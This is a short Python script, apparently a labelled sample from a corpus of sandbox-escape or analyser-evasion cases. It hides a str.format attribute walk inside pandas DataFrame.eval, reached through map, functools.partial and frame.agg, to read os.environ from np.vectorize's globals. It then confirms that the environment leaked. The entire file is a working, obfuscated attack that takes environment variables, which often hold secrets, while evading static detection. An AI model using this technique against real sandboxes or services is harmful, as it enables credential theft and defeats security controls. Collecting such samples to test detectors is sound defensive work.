# class: format_lookup
# technique: the template's bound format method called in expression text (@t.format(@o[0])): the format call never appears as a node (DataFrame.eval reached as map(functools.partial(frame.agg, local_dict=...), ['eval'], [0], [expr]))
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
import functools


def ev(expr, **names):
    return list(map(functools.partial(frame.agg, local_dict=names), ["eval"], [0], [expr]))[0]

u = "_" * 2
template = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"

leak = ev("@t.format(@o[0])", t=template, o=[np.vectorize])
if not str(leak).startswith("environ("):
    raise RuntimeError("no environment")
df = pd.DataFrame({"environ": [leak]})
